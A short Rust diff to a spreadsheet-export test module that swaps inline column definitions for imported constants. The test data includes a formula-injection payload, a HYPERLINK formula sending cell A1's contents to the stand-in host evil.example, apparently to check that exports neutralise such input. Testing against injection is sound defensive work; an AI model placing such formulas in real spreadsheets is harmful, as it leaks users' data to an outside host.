@@ -36,6 +36,7 @@ impl Sheet {
 mod tests {
     #![allow(clippy::unwrap_used)]
     use super::*;
+    use crate::sheet::columns::{AMOUNT, BET_IDS, ROUND_ID};
     use crate::sheet::{column, Cell};
     use chrono::NaiveDate;
 
@@ -95,11 +96,7 @@ mod tests {
         let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
         let sheet = Sheet {
             name: "findings".into(),
-            columns: vec![
-                column("round_id", "Kolo", "Round"),
-                column("bet_ids", "Sázky", "Bets"),
-                column("amount_h", "Částka (Kč)", "Amount (CZK)"),
-            ],
+            columns: vec![ROUND_ID, BET_IDS, AMOUNT],
             rows: vec![vec![
                 Cell::Text(attack.into()),
                 Cell::Text("-A1-A1".into()),
